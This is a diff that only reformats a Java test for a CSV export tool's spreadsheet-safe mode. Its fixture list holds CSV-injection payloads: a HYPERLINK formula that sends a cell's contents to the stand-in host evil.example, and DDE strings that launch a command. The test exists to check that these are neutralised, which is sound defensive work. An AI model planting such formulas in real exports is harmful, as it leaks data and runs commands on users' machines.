@@ -14,23 +14,29 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
 /**
- * CSV injection through {@code export_table}: a table imported from a hostile file holds cells that a spreadsheet
- * would run ({@code =HYPERLINK}, DDE through {@code +cmd|}, {@code @SUM}, tab- and CR-prefixed formulas). The
- * default export gives every value back exactly; {@code spreadsheet_safe=true} neutralises each of them as OWASP
- * advises (a leading single quote, the cell quoted) and leaves plain numbers and other text alone.
+ * CSV injection through {@code export_table}: a table imported from a hostile file holds cells that
+ * a spreadsheet would run ({@code =HYPERLINK}, DDE through {@code +cmd|}, {@code @SUM}, tab- and
+ * CR-prefixed formulas). The default export gives every value back exactly; {@code
+ * spreadsheet_safe=true} neutralises each of them as OWASP advises (a leading single quote, the
+ * cell quoted) and leaves plain numbers and other text alone.
  */
 class SpreadsheetSafeExportTest {
 
-  private static final List<String> DANGEROUS = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
-      "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
-      "=1+1");
-  private static final List<String> HARMLESS = List.of("plain", "-12.5", "+3", "1e3", "a=b", "", "'quoted");
+  private static final List<String> DANGEROUS =
+      List.of(
+          "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+          "+cmd|' /C calc'!A0",
+          "-2+3+cmd|' /C calc'!A0",
+          "@SUM(1+9)*cmd|' /C calc'!A0",
+          "\t=1+1",
+          "\r=1+1",
+          "=1+1");
+  private static final List<String> HARMLESS =
+      List.of("plain", "-12.5", "+3", "1e3", "a=b", "", "'quoted");
 
-  @TempDir
-  Path home;
+  @TempDir Path home;
 
-  @TempDir
-  Path files;
+  @TempDir Path files;
 
   private Path source;
 
@@ -42,16 +48,36 @@ class SpreadsheetSafeExportTest {
       csv.append(++id).append(',').append(quoted(value)).append(",x\r\n");
     }
     source = Files.writeString(files.resolve("hostile.csv"), csv.toString());
-    assertThat(paw("run", "csv", "import_file", "--pocket", "Books", "-p", "file_path=" + source, "-p",
-        "table_name=hostile")).isZero();
+    assertThat(
+            paw(
+                "run",
+                "csv",
+                "import_file",
+                "--pocket",
+                "Books",
+                "-p",
+                "file_path=" + source,
+                "-p",
+                "table_name=hostile"))
+        .isZero();
   }
 
   @Test
   void theDefaultExportGivesEveryValueBackExactly() throws Exception {
     Path out = files.resolve("exact.csv");
 
-    assertThat(paw("run", "csv", "export_table", "--pocket", "Books", "-p", "table_name=hostile", "-p",
-        "output_path=" + out)).isZero();
+    assertThat(
+            paw(
+                "run",
+                "csv",
+                "export_table",
+                "--pocket",
+                "Books",
+                "-p",
+                "table_name=hostile",
+                "-p",
+                "output_path=" + out))
+        .isZero();
 
     List<List<String>> rows = read(out);
     assertThat(rows.get(0)).containsExactly("id", "value", "=header()");
@@ -63,8 +89,20 @@ class SpreadsheetSafeExportTest {
   void aSpreadsheetSafeExportNeutralisesEveryFormulaAndNothingElse() throws Exception {
     Path out = files.resolve("safe.csv");
 
-    assertThat(paw("run", "csv", "export_table", "--pocket", "Books", "-p", "table_name=hostile", "-p",
-        "output_path=" + out, "-p", "spreadsheet_safe=true")).isZero();
+    assertThat(
+            paw(
+                "run",
+                "csv",
+                "export_table",
+                "--pocket",
+                "Books",
+                "-p",
+                "table_name=hostile",
+                "-p",
+                "output_path=" + out,
+                "-p",
+                "spreadsheet_safe=true"))
+        .isZero();
 
     List<List<String>> rows = read(out);
     assertThat(rows.get(0)).containsExactly("id", "value", "'=header()");
@@ -74,12 +112,20 @@ class SpreadsheetSafeExportTest {
     assertThat(values.subList(DANGEROUS.size(), values.size())).containsExactlyElementsOf(HARMLESS);
     String text = Files.readString(out, StandardCharsets.UTF_8);
     for (String value : DANGEROUS) {
-      assertThat(text).as("quoted: %s", value).contains(",\"'" + value.replace("\"", "\"\"") + "\",");
+      assertThat(text)
+          .as("quoted: %s", value)
+          .contains(",\"'" + value.replace("\"", "\"\"") + "\",");
     }
     for (String line : text.split("\r\n")) {
       String cell = line.substring(line.indexOf(',') + 1);
-      assertThat(cell).as("no cell starts a formula").doesNotStartWith("=").doesNotStartWith("@")
-          .doesNotStartWith("\"=").doesNotStartWith("\"@").doesNotStartWith("\"+").doesNotStartWith("\"\t");
+      assertThat(cell)
+          .as("no cell starts a formula")
+          .doesNotStartWith("=")
+          .doesNotStartWith("@")
+          .doesNotStartWith("\"=")
+          .doesNotStartWith("\"@")
+          .doesNotStartWith("\"+")
+          .doesNotStartWith("\"\t");
     }
   }
 
@@ -89,7 +135,11 @@ class SpreadsheetSafeExportTest {
     all[1] = home.toString();
     System.arraycopy(args, 0, all, 2, args.length);
     ScriptedTerminal terminal = new ScriptedTerminal(false);
-    int exit = PawCli.run(all, terminal, Map.of("PAW_MASTER_KEY", "bXktdGVzdC1tYXN0ZXIta2V5LW9mLTMyLWJ5dGVzISE="));
+    int exit =
+        PawCli.run(
+            all,
+            terminal,
+            Map.of("PAW_MASTER_KEY", "bXktdGVzdC1tYXN0ZXIta2V5LW9mLTMyLWJ5dGVzISE="));
     assertThat(terminal.errors()).isEmpty();
     return exit;
   }
